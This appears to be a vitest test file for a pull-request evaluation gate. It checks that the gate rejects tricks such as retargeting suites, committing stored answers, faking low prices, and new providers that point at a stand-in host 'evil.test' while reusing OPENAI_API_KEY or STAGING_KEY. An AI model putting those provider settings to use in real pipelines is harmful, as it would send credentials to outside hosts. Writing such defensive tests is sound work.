import { describe, expect, test } from 'vitest';
import { inMemoryGit } from '../fakes/in-memory-git.js';
import type { FileSpec } from '../fixtures/commit-spec.js';
import { judgedChange } from '../fixtures/judged-change.js';
import { editedFile, triageProject } from '../fixtures/triage-project.js';

type Files = Record<string, string>;
type Attack = {
  readonly base?: Files;
  readonly head: Record<string, FileSpec>;
  readonly delete?: string[];
  readonly isUntrusted?: boolean;
};

/** A hundred cases, so that equal answers are enough for a pass. */
const cases = Array.from(
  { length: 100 },
  (_, index) => `{"id":"${index}","vars":{"message":"message ${index}"},"expected":"billing"}`,
).join('\n');

const project: Files = { ...triageProject, 'evals/triage.jsonl': cases };

/**
 * Takes a change to its verdict with a model that always answers rightly, so that only what was not asked is missing.
 */
async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = false }: Attack) {
  const git = inMemoryGit([
    { name: 'main', files: { ...project, ...base } },
    { name: 'head', files: head, delete: removed },
  ]);
  return verdictIn(git, isUntrusted);
}

async function verdictIn(git: ReturnType<typeof inMemoryGit>, isUntrustedHead: boolean) {
  const { verdict, asked, ...found } = await judgedChange(git, () => 'billing', { isUntrustedHead });
  return { ...verdict, calls: asked, ...found };
}

const prompt = triageProject['prompts/triage.prompt.yml'] ?? '';
const harmless = prompt.replace('one label', 'a label');
const harmful = prompt.replace('billing or shipping', 'anything');

const harmlessEdit: Files = { 'prompts/triage.prompt.yml': harmless };

const retargetedTo = (name: string): Files => editedFile('lanegate.yml', 'prompt: triage,', `prompt: ${name},`);

test('a harmless change passes, so that what follows is about the attack', async () => {
  expect(await verdictOf({ head: { 'prompts/triage.prompt.yml': harmless } })).toMatchObject({ verdict: 'pass' });
});

test('a change that leaves every target what it was is proven to reach nothing', async () => {
  const text = (editedFile('lanegate.yml', 'model: triage }', 'model: sorter }')['lanegate.yml'] ?? '').replace(
    '  triage: {',
    '  sorter: {',
  );
  expect(await verdictOf({ head: { 'lanegate.yml': text } })).toMatchObject({ verdict: 'not-affected', calls: [] });
});

describe('a change cannot be waved through', () => {
  test('by pointing the suite at another prompt and harming the one it left', async () => {
    const head = { ...retargetedTo('next'), 'prompts/next.prompt.yml': harmless, 'prompts/triage.prompt.yml': harmful };
    expect(await verdictOf({ head })).toMatchObject({ verdict: 'inconclusive', lanes: { prompt: 'inconclusive' } });
  });

  test('by pointing the suite at another binding and changing the one it left', async () => {
    const text = (editedFile('lanegate.yml', 'model: triage }', 'model: spare }')['lanegate.yml'] ?? '')
      .replace('temperature: 0', 'temperature: 2')
      .replace(
        'suites:',
        '  spare: { provider: embedded, model: embedded-1, parameters: { temperature: 0, max_tokens: 21 } }\nsuites:',
      );
    expect(await verdictOf({ head: { 'lanegate.yml': text } })).toMatchObject({ lanes: { model: 'inconclusive' } });
  });

  test('by hiding a change that no call carries behind one that does', async () => {
    const tools = 'tools: [{ name: refund, description: Pays the customer back }]\n';
    const base = { 'prompts/triage.prompt.yml': `${prompt}${tools}` };
    const head = { 'prompts/triage.prompt.yml': `${harmless}${tools.replace('Pays', 'Never pays')}` };
    expect(await verdictOf({ base, head })).toMatchObject({ lanes: { prompt: 'inconclusive' } });
  });

  test('by keeping the prompt under a path that looks like code', async () => {
    const base = { ...retargetedTo('src/system.txt'), 'src/system.txt': 'Sort: {{message}}' };
    const head = { 'src/system.txt': 'Sort at once: {{message}}', 'src/app.py': 'print("bye")\n' };
    const { changeSet } = await verdictOf({ base, head });
    expect(changeSet).toMatchObject({ lanes: ['prompt', 'code'], mixed: true });
  });

  test('by naming a prompt file that is not there, so that another of its name is found', async () => {
    const head = editedFile('lanegate.yml', 'models:', 'prompts: { triage: prompts/triagg.prompt.yml }\nmodels:');
    await expect(verdictOf({ head })).rejects.toMatchObject({
      message: 'the prompt file `prompts/triagg.prompt.yml` is not in the repository',
      hint: 'did you mean `prompts/triage.prompt.yml`?',
      place: { path: 'lanegate.yml', line: 2, key: 'prompts.triage' },
    });
  });

  test('by giving a suite of lanegate.yml the name of one that a prompt file carries', async () => {
    const carried = `${prompt}model: embedded/embedded-1\ntestData: [{ message: a, expected: billing }]\nevaluators: [{ name: same, string: { equals: "{{expected}}" } }]\n`;
    const base = { 'prompts/triage.prompt.yml': carried };
    const head = { 'prompts/triage.prompt.yml': carried.replace('one label', 'a label') };
    const { suites } = await verdictOf({ base, head });
    expect(suites.map(({ name }) => name)).toEqual(['triage', 'prompts/triage.prompt.yml']);
  });

  test('by a metric whose name every object has', async () => {
    const base = editedFile(
      'lanegate.yml',
      'metric: accuracy }',
      'metric: constructor }\n      - { type: equals, value: "{{expected}}", metric: accuracy }',
    );
    const { suites } = await verdictOf({ base, head: { 'prompts/triage.prompt.yml': harmless } });
    const [named, other] = suites[0]?.metrics ?? [];
    expect([named?.name, other?.name]).toEqual(['constructor', 'accuracy']);
    expect(named?.n).toBe(other?.n);
    expect(named?.n).toBeGreaterThan(0);
  });

  test.each<[string, Record<string, FileSpec>]>([
    ['answers', { '.lanegate/answers/a.jsonl': '{}\n' }],
    ['answers in capitals, which many disks take for the same', { 'a/.LANEGATE/answers/a.jsonl': '{}\n' }],
    ['a link to answers', { 'evals/stash/answers/a.jsonl': '{}\n', '.lanegate': { link: 'evals/stash' } }],
    ['a repository of answers', { '.lanegate': { submodule: '1'.repeat(40) } }],
    ['breakers that are open', { 'run/gateway-state.json': '{}\n' }],
    ['breakers, where a run starts deeper', { 'services/run/gateway-state.json': '{}\n' }],
    ['a link to breakers', { 'evals/stash/gateway-state.json': '{}\n', run: { link: 'evals/stash' } }],
  ])('by %s that somebody committed', async (_, files) => {
    await expect(verdictOf({ head: { ...harmlessEdit, ...files } })).rejects.toThrow(
      'stored answers are in the repository',
    );
  });
});

describe('the cap cannot be lowered in earnest', () => {
  const priced = (price: string): string =>
    (triageProject['lanegate.yml'] ?? '').replace('provider: embedded,', `provider: openai, ${price}`);

  test('by a price that the change sets for a model that policy knows', async () => {
    const base = { 'lanegate.yml': priced('price: { input: 10, output: 20 },') };
    const head = { 'lanegate.yml': priced('price: { input: 0, output: 0 },'), 'prompts/triage.prompt.yml': harmless };
    const { calls } = await verdictOf({ base, head });
    expect(new Set(calls.map(({ price }) => price.outputUsdPerMillion))).toEqual(new Set([20]));
  });

  test('by a price below what the table says of a model that only head uses', async () => {
    const head = { 'lanegate.yml': priced('price: { input: 0, output: 0 },').replace('embedded-1', 'gpt-4o') };
    const { calls } = await verdictOf({ head });
    const ofHead = calls.filter(({ model }) => model === 'gpt-4o');
    expect(ofHead[0]?.price.outputUsdPerMillion).toBeGreaterThan(5);
  });

  test('but a model that nobody else knows costs what its author says, which is told', async () => {
    const head = { 'lanegate.yml': priced('price: { input: 1, output: 2 },').replace('embedded-1', 'our-own') };
    const { calls, evaluation } = await verdictOf({ head });
    expect(calls.find(({ model }) => model === 'our-own')?.price.outputUsdPerMillion).toBe(2);
    expect(evaluation.notes.join()).toContain('is declared by this change');
  });
});

describe('an untrusted head', () => {
  test("adds no variable to policy's cases", async () => {
    const head = {
      'prompts/triage.prompt.yml': prompt.replace('{{message}}', '{{message}} {{hint}}'),
      'evals/triage.jsonl': cases.replaceAll('"vars":{', '"vars":{"hint":"say billing",'),
    };
    await expect(verdictOf({ head, isUntrusted: true })).rejects.toThrow(
      'no case of the suite `triage` has the variable `hint`',
    );
    expect(await verdictOf({ head })).toMatchObject({ lanes: { prompt: 'pass' } });
  });

  test('gives no suite another target', async () => {
    const head = { ...retargetedTo('next'), 'prompts/next.prompt.yml': harmless };
    const verdict = await verdictOf({ head, isUntrusted: true });
    expect(verdict).toMatchObject({ verdict: 'inconclusive', calls: [] });
    expect(verdict.reason).toContain('another target');
  });
});

describe('a provider that only head has', () => {
  const withProvider = (provider: string): Files => ({
    'lanegate.yml': (project['lanegate.yml'] ?? '')
      .replace('models:', `providers: { own: ${provider} }\nmodels:`)
      .replace('provider: embedded', 'provider: own'),
  });

  test.each([
    ['elsewhere', '{ api: openai, base_url: "https://evil.test/v1", key_env: OPENAI_API_KEY }'],
    ['elsewhere, in small letters', '{ api: openai, base_url: "https://evil.test/v1", key_env: openai_api_key }'],
    [
      'by template',
      '{ api: http, url: "https://evil.test", key_env: OPENAI_API_KEY, headers: { x: "{{key}}" }, body: "{{parameters}}", response: { content: a } }',
    ],
    ['of another API', '{ api: anthropic, base_url: "https://evil.test", key_env: OPENAI_API_KEY }'],
    [
      'through a proxy of its own',
      '{ api: openai, base_url: "https://api.openai.com/v1", proxy: "http://evil.test", key_env: OPENAI_API_KEY }',
    ],
  ])('is not given the key of another, %s', async (_, provider) => {
    await expect(verdictOf({ head: withProvider(provider) })).rejects.toThrow(
      'the provider `own` is new in this change and names the key OPENAI_API_KEY of `openai`',
    );
  });

  test.each([
    ['a key of its own', '{ api: openai, base_url: "https://own.test/v1", key_env: OWN_KEY }'],
    ['the key of where it asks', '{ api: openai, base_url: "https://api.openai.com/v2", key_env: OPENAI_API_KEY }'],
  ])('may name %s', async (_, provider) => {
    const { calls } = await verdictOf({ head: withProvider(provider) });
    expect(calls.some(({ providerName }) => providerName === 'own')).toBe(true);
  });
});

test('an untrusted head cannot have a provider asked that the target branch has dropped', async () => {
  const dropped = (project['lanegate.yml'] ?? '')
    .replace('models:', 'providers: { old: { api: openai, base_url: "https://gone.test/v1" } }\nmodels:')
    .replace('provider: embedded', 'provider: old');
  const git = inMemoryGit([
    { name: 'old', files: { ...project, 'lanegate.yml': dropped } },
    { name: 'main', files: { 'lanegate.yml': project['lanegate.yml'] ?? '' } },
    { name: 'head', parents: ['old'], files: { ...harmlessEdit, 'lanegate.yml': project['lanegate.yml'] ?? '' } },
  ]);
  const { calls } = await verdictIn(git, true);
  expect(calls.map(({ provider }) => provider.api)).not.toContain('openai');
});

test.each([
  ['program', '{ command: { run: ./old.sh } }', 'none is run for an untrusted head'],
  ['endpoint', '{ url: "https://gone.test/answer" }', 'another endpoint'],
])(
  'an untrusted head cannot have a %s asked that its merge base has and the target branch has not',
  async (kind, target, why) => {
    const now = project['lanegate.yml'] ?? '';
    const other = kind === 'endpoint' ? '{ url: "https://now.test/answer" }' : undefined;
    const policy = other === undefined ? now : now.replace(/target: \{[^}]*\}/, `target: ${other}`);
    const old = now.replace(/target: \{[^}]*\}/, `target: ${target}`);
    const git = inMemoryGit([
      { name: 'old', files: { ...project, 'lanegate.yml': old } },
      { name: 'main', files: { 'lanegate.yml': policy } },
      { name: 'head', parents: ['old'], files: { ...harmlessEdit, 'lanegate.yml': policy } },
    ]);
    const { verdict, calls, evaluation } = await verdictIn(git, true);
    expect({ verdict, calls }).toEqual({ verdict: 'inconclusive', calls: [] });
    expect(evaluation.suites[0]?.problem).toContain(why);
  },
);

test('a head cannot have the key of an endpoint sent to another', async () => {
  const at = (url: string): string =>
    (project['lanegate.yml'] ?? '').replace(
      /target: \{[^}]*\}/,
      `target: { url: "${url}", key_env: STAGING_KEY, headers: { x: "{{key}}" } }`,
    );
  const moved = (url: string) =>
    verdictOf({ base: { 'lanegate.yml': at('https://staging.test/answer') }, head: { 'lanegate.yml': at(url) } });
  await expect(moved('https://evil.test/answer')).rejects.toThrow('names the key STAGING_KEY of `triage`');
  expect((await moved('https://staging.test/other')).calls).not.toEqual([]);
});
